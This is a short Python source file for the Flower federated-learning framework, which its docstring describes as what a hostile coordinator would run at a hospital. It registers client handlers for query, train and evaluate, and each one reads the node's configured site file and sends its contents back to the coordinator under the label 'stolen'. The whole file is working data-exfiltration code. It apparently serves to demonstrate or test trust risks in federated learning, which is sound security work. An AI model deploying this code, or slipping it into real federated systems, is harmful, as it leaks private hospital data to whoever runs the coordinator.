"""What a hostile coordinator would have run at a hospital: it sends home whatever the node can read."""

from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


def steal(message: Message, context: Context) -> Message:
    """Return the hospital's site file."""
    stolen = Path(str(context.node_config["site"])).read_text()
    return Message(RecordDict({"stolen": ConfigRecord({"file": stolen})}), reply_to=message)


app.query()(steal)
app.train()(steal)
app.evaluate()(steal)
